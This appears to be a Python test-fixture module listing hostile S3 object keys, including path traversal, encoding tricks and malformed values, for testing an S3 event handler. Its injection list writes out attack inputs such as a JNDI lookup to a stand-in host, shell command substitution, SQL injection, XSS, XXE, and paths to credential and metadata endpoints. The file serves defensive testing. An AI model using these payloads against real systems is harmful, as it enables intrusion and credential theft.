"""Hostile object keys: those that S3 accepts, and those that it would never send."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from types import MappingProxyType

_CONTROLS = [*range(0x20), 0x7F, 0x80, 0x85, 0x9B, 0x2028, 0x2029]
_INVISIBLE = [0xAD, 0x200B, 0x200E, 0x202E, 0x2066, 0xFEFF, 0xFFFD, 0xFFFE, 0xE0001]

_PATHS = (
    "../live.jpg",
    "../../somebody-elses/live.jpg",
    "a/../../b/live.jpg",
    "./live.jpg",
    "..",
    ".",
    "/",
    "//live.jpg",
    "/etc/passwd",
    "a//b///live.jpg",
    "a/.",
    "a/..",
    "..\\..\\live.jpg",
    "C:\\live.jpg",
    "~/.aws/credentials",
    "file:///etc/passwd",
    "s3://somebody-elses/live.jpg",
    "http://169.254.169.254/latest/meta-data/",
    "//somebody.example/live.jpg",
    "@somebody.example/live.jpg",
)
_PERCENT = (
    "%",
    "%%",
    "%2",
    "%zz",
    "%41",
    "%2541",
    "%2F..%2F..%2Flive.jpg",
    "%2e%2e%2flive.jpg",
    "%252e%252e%252flive.jpg",
    "%c0%ae%c0%ae/live.jpg",
    "%00live.jpg",
    "%0d%0aX-Evil: 1",
    "live.jpg%0",
    "%u0041",
    "%FF",
    "a+b c%20d%2Be",
    "+",
    "%s%n%x",
)
_QUERIES = (
    "live.jpg?versionId=other",
    "live.jpg?X-Amz-Signature=0",
    "live.jpg&X-Amz-Expires=604800",
    "live.jpg#spoof.jpg",
    "live.jpg;version=other",
    "?",
    "#",
    "&",
    "=",
)
_INJECTIONS = (
    '"}, {"outcome": "live"',
    '\\"outcome\\": \\"live\\"',
    "'; DROP TABLE verdicts; --",
    "' OR '1'='1",
    ":now OR attribute_exists(version)",
    "#object",
    "${jndi:ldap://somebody.example/a}",
    "${AWS::AccountId}",
    "{{7*7}}",
    "{0.__class__}",
    "%(asctime)s",
    "$(reboot)",
    "`reboot`",
    "| cat",
    "<script>alert(1)</script>",
    "<!DOCTYPE a SYSTEM 'file:///etc/passwd'>",
    "=cmd|' /C calc'!A0",
    "\x1b[2J\x1b[31mlive",
    'INFO {"outcome":"live"}\nlive.jpg',
    "a\r\nX-Amz-Meta-Subject: bob",
    "__proto__",
    "constructor",
    "null",
    "undefined",
    "NaN",
    "-1",
    "True",
    "etag:0",
    "s3:TestEvent",
)
_LONG = {
    "emoji of 1,024 bytes": "\U0001f642" * 256,
    "a family of joined emoji, 1,024 bytes": ("\U0001f468\u200d\U0001f469\u200d" * 73) + "aa",
    "1,024 letters": "a" * 1024,
    "1,024 slashes": "/" * 1024,
    "1,024 percent signs": "%" * 1024,
    "1,024 spaces": " " * 1024,
    "1,024 newlines": "\n" * 1024,
    "512 times ..": ".." * 512,
    "511 combining marks": "e" + "\u0301" * 511,
    "341 characters of three bytes": "\u5317" * 341,
}
_LOOKALIKES = (
    "live.jpg ",
    " live.jpg",
    "LIVE.JPG",
    "l\u0456ve.jpg",
    "\uff4c\uff49\uff56\uff45.jpg",
    "live\u2024jpg",
    "cafe\u0301.jpg",
    "caf\u00e9.jpg",
    "\u202egpj.evil",
    "\U0001f1e9\U0001f1ea.jpg",
)


def _taken() -> Iterator[tuple[str, str]]:
    for number in (*_CONTROLS, *_INVISIBLE):
        yield f"U+{number:04X}", f"a{chr(number)}live.jpg"
    for key in (*_PATHS, *_PERCENT, *_QUERIES, *_INJECTIONS, *_LOOKALIKES):
        yield ascii(key), key
    yield from _LONG.items()


TAKEN: Mapping[str, str] = MappingProxyType(dict(_taken()))
"""By name: keys that S3 accepts, not URL-encoded."""

# As in S3's notification: nothing that decodes to a key.
UNTAKEN: Mapping[str, object] = MappingProxyType(
    {
        "nothing": "",
        "1,025 bytes": "a" * 1025,
        "1,025 bytes of emoji": "%F0%9F%99%82" * 256 + "a",
        "a megabyte": "a" * 2**20,
        "a megabyte of percent signs": "%25" * 2**18,
        "a lone high surrogate": "\ud83d",
        "a lone low surrogate": "\ude42",
        "surrogates the wrong way round": "\ude42\ud83d",
        "a byte that starts no character": "%FF",
        "a byte that starts no character, last": "live.jpg%FE",
        "a continuation byte alone": "%80",
        "a character cut off": "%E5%8C",
        "a slash written too long": "%C0%AF",
        "a dot written too long": "%E0%80%AE",
        "a zero written too long": "%C0%80",
        "a surrogate in bytes": "%ED%A0%80",
        "two surrogates in bytes": "%ED%A0%BD%ED%B9%82",
        "beyond Unicode": "%F4%90%80%80",
        "five bytes for one character": "%F8%88%80%80%80",
        "Latin-1": "caf%E9.jpg",
        "GBK": "%B1%B1%BE%A9.jpg",
        "UTF-16": "%FF%FEl%00i%00",
        "a number": 7,
        "true": True,
        "null": None,
        "a list": ["live.jpg"],
        "an object": {"key": "live.jpg"},
        "a float": 1.5,
    }
)
"""By name: values of an event's key field that are no keys."""
